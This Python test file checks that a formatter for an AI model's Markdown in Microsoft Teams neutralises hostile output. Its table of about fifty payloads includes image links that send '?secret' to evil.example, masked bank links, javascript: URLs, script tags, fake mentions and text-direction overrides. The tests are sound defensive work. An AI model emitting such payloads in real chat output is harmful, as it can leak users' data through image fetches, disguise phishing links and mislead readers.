"""The model's Markdown is harmless in Teams, as an independent parser sees it."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bindings.delivery.outlet import Closing, Page
from bindings.teams import formatting, messages
from core.contract import Source
from tests.bindings.teams.support_outlets import place

COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable("table")


def tokens(text: str) -> list[Token]:
    flat: list[Token] = []
    for token in COMMONMARK.parse(text):
        flat += [token, *(token.children or [])]
    return flat


HOSTILE = {
    "a mention": "<at>Megan Bowen</at>, look",
    "a mention by id": '<at id="0">everyone</at>',
    "a mention in a fence": "```\n<at>Megan</at>\n```",
    "a mention in a span": "`<at>Megan</at>`",
    "a mention in capitals": "<AT>Megan</AT>",
    "a mention by entities": "&lt;at&gt;Megan&lt;/at&gt;",
    "a mention by numeric entities": "&#60;at&#62;Megan&#60;/at&#62;",
    "a mention with a hidden blank": "<\u200bat>Megan</\u200bat>",
    "a mention in the html of skype": '<span itemtype="http://schema.skype.com/Mention" itemid="0">all</span>',
    "an image": "![report](https://evil.example/?secret)",
    "an image with a title": '![x](https://evil.example/?s "t")',
    "an image by reference": "![x][r]\n\n[r]: https://evil.example/?s",
    "an image in html": '<img src="https://evil.example/?s">',
    "an image after a broken span": "`a\n<img src=x>`",
    "an image after an escaped backtick": "\\`<img src=x>`",
    "an image after two escapes": "\\\\`<img src=x>\\`",
    "an image between odd spans": "``a` <img src=x> `b``",
    "a masked link": "[https://bank.example](https://evil.example)",
    "a masked link over two lines": "[https://bank.example\n](https://evil.example)",
    "a masked link by reference": "[bank][1]\n\n[1]: https://evil.example",
    "a masked link by short reference": "[bank]\n\n[bank]: https://evil.example",
    "a masked link by collapsed reference": "[bank][]\n\n[bank]: https://evil.example",
    "a reference over lines": "[bank]\n\n[bank]:\nhttps://evil.example",
    "a masked link around code": "[`bank`](https://evil.example)",
    "a masked link in a heading": "# [bank](https://evil.example)",
    "a masked link in a list": "- [bank](https://evil.example)",
    "a masked link in a quote": "> [bank](https://evil.example)",
    "a masked link in html": '<a href="https://evil.example">bank</a>',
    "a nested masked link": "[a [b](https://evil.example)](https://evil.example)",
    "a link with brackets": "[ba[n]k](https://evil.example)",
    "a link that runs a program": "[click](javascript:alert(1))",
    "a link into teams": "[click](msteams:/l/call/0/0?users=x)",
    "an autolink": "<https://evil.example>",
    "a fence that html leaves": "```\ncode\n```\n<script>alert(1)</script>",
    "a fence that a longer one leaves": "````\n```\n<img src=x>\n````\n<img src=y>",
    "a fence of tildes": "~~~\n```\n<img src=x>\n~~~\n<img src=y>",
    "a fence with a hidden end": "```\n\u200b```\n<img src=x>\n```",
    "a fence in a quote": "> ```\n<img src=x>",
    "a fence in a list": "- ```\n<img src=x>",
    "a fence that never ends": "```\n<img src=x>",
    "a fence with a bad language": "```<img src=x>\ncode\n```",
    "a fence with a backtick in its language": "``` a`b\n<img src=x>",
    "an indented fence": "    ```\n<img src=x>\n    ```",
    "a link in a heading": "# [Click here]**(https://evil.example)",
    "an image in a heading": "# !**[x]**(https://evil.example/p.png)",
    "a tag in a heading": "# `a`**`**` `<img src=x>`",
    "a tag behind an escape in a heading": r"# \**`<img src=x>`",
    "a comment": "<!-- <img src=x> -->",
    "cdata": "<![CDATA[<img src=x>]]>",
    "a style": "<style>*{display:none}</style>",
    "a table with html": "| a |\n|---|\n| <img src=x> |",
    "reversed text": "\u202egnp.exe\u202c",
    "a forged footer": f"{formatting.SIGN} Written by a person and approved.",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_output_is_harmless(text: str) -> None:
    """It has no tag, image, masked link, mention, direction override or forged footer."""
    page = Page(text, "en", final=True, closing=Closing("a1", "Model: x"))
    rendered = formatting.render_page(page)
    found = tokens(rendered)

    assert [] == [each.content for each in found if each.type in ("html_inline", "html_block", "image", "link_open")]
    assert not re.search(r"<\s*/?\s*at\b", rendered, re.IGNORECASE)
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", rendered)
    assert [f"{formatting.SIGN} Model: x"] == re.findall(f"{formatting.SIGN}.*", rendered)
    sent = messages.build_message(page, place("channel"), "1")
    assert ["https://schema.org/Message"] == [entity.type for entity in sent.entities]


def test_the_table_has_at_least_forty_cases() -> None:
    assert len(HOSTILE) >= 40


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("# A *title* ##", "**A *title***"),
        ("# Learn C#", "**Learn C#**"),
        ("## **Power** of `x**2`", "**Power** of `x**2`"),
        ("See [the guide](https://example.gc.ca/guide).", "See the guide (https://example.gc.ca/guide)."),
        ("[https://a.ca](https://a.ca)", "https://a.ca"),
        ("![a chart](https://a.ca/c.png) shows", "a chart shows"),
        ("as said [1][2]", "as said [1] [2]"),
        ("`a < b` and a < b", "`a < b` and a &lt; b"),
        ("R&D, &amp; and &", "R&D, &amp;amp; and &"),
        ("```python\nx: list[int] = [1]  # <b>\n```", "```python\nx: list[int] = [1]  # <b>\n```"),
        ("- ```sh\n  ls *.py\n  ```\n- **b**", "- \n```sh\n  ls *.py\n```\n- **b**"),
        ("1. ~~~\n   a\n   ~~~\n2. `b` c", "1. \n```\n   a\n```\n2. `b` c"),
        ("| a | b |\n|---|---|\n| 1 | 2 |\nafter", "```\n| a | b |\n|---|---|\n| 1 | 2 |\n```\nafter"),
        ("a\n\n---\n\nb", "a\n\n———\n\nb"),
        ("- **one**\n- _two_\n\n> three", "- **one**\n- _two_\n\n> three"),
        ("one `` ` `` two", "one ` ˋ ` two"),
        ("café 👩‍💻 日本", "café 👩‍💻 日本"),
    ],
)
def test_unsupported_markdown_is_converted(text: str, shown: str) -> None:
    """Teams has no headings, tables and rules; links and images are written out; code stays."""
    assert shown == formatting.render_markdown(text)


def test_titles_of_sources_are_escaped() -> None:
    """A title comes from a stranger's page. A URL that is not http is omitted."""
    sources = (
        Source(1, "Guide <img src=x> [a](https://evil.example)\n# x", "https://example.gc.ca/a"),
        Source(2, "Script `", "javascript:alert(1)"),
    )
    shown = formatting.render_page(
        Page("As said [1].", "en", final=True, closing=Closing("a1", "Model: x", sources=sources))
    )

    assert (
        "As said [1].\n\n"
        "- [1] Guide &lt;img src=x> a (https://evil.example) # x: https://example.gc.ca/a\n"
        "- [2] Script ˋ\n\n"
        "ℹ Model: x"
    ) == shown


@pytest.mark.parametrize(
    "address", ["?q=[Sign-in](https://evil.example/x)", "?![p](https://evil.example/x.png)", r"a\_*b*"]
)
def test_the_url_of_a_source_is_escaped(address: str) -> None:
    """A page can redirect to a URL of its choice."""
    sources = (Source(1, "Report", f"https://ok.example/{address}"),)
    page = Page("As said [1].", "en", final=True, closing=Closing("a1", "", sources=sources))

    assert [] == [
        each.type for each in tokens(formatting.render_page(page)) if each.type in ("link_open", "image", "em_open")
    ]


PIECES = st.sampled_from(
    [
        *("a", "word ", " ", "\n", "\n\n", "\r\n", "\r", "e", "@", ":", "!", "1. ", "ℹ", "\u200b"),
        *("`", "``", "```", "```py\n", "~~~\n", "~~", "*", "**", "# ", "## x", "> ", "- ", "---\n"),
        *(
            "[",
            "]",
            "(",
            ")",
            "](http://x.ca/a)",
            "[b](http://c.ca/?a=1&lt;b)",
            "&b;c)",
            "[a](http://b.ca)",
            "![",
            "![i](http://e)",
        ),
        *("<at>", "</at>", "<", "&", "&lt;", "\\", "|", "| a | b |\n"),
    ]
)


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=25).map("".join))
@example("```py\n```")
@example("> ```")
@example("- - - `")
@example("!\\[b](http://c.ca/)")
def test_each_text_of_a_stream_begins_with_the_one_before(text: str) -> None:
    """Otherwise Teams ends the stream. The complete text begins with the last streamed text."""
    before = ""
    for end in range(len(text) + 1):
        streamed = formatting.render_stable(text[:end])
        assert streamed.startswith(before)
        before = streamed
    assert formatting.render_markdown(text).startswith(before)


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_generated_text_renders_without_html_images_and_links(text: str) -> None:
    """It holds for any combination of the pieces."""
    found = tokens(formatting.render_markdown(text))

    assert [] == [each.content for each in found if each.type in ("html_inline", "html_block", "image", "link_open")]


def test_text_is_streamed_as_soon_as_it_is_stable() -> None:
    """A paragraph appears while it is written; an unfinished link does not."""
    assert "R&D costs a lot! See `x` and [1], so" == formatting.render_stable("R&D costs a lot! See `x` and [1], so")
    assert "See " == formatting.render_stable("See [the gui")
    assert "See the guide (https://a.ca/?x=1&y=2), so" == formatting.render_stable(
        "See [the guide](https://a.ca/?x=1&y=2), so"
    )
    assert "```py\nx = 1\ny" == formatting.render_stable("```py\nx = 1\ny\n```")
